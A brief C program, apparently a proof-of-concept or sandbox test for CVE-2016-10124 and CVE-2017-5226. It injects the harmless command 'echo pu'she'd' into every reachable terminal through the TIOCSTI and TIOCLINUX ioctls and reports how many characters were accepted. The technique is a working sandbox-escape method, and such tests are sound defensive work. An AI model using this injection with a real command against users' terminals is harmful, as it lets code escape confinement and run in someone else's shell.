/*
 * CVE-2016-10124, CVE-2017-5226: types a command at every terminal it has, for whoever reads there next.
 *
 * Prints how many characters were taken.
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int push(int fd, const char *text)
{
	int taken = 0;
	char paste[] = { 3, 0 }; /* TIOCL_PASTESEL */

	for (size_t i = 0; i < strlen(text); i++)
		taken += ioctl(fd, TIOCSTI, &text[i]) == 0;
	ioctl(fd, TIOCLINUX, paste);
	return taken;
}

int main(void)
{
	int taken = 0;
	int terminal = open("/dev/tty", O_RDWR);

	for (int fd = 0; fd < 3; fd++)
		taken += push(fd, "echo pu'she'd\n");
	if (terminal >= 0)
		taken += push(terminal, "echo pu'she'd\n");
	printf("taken %d\n", taken);
	return 0;
}
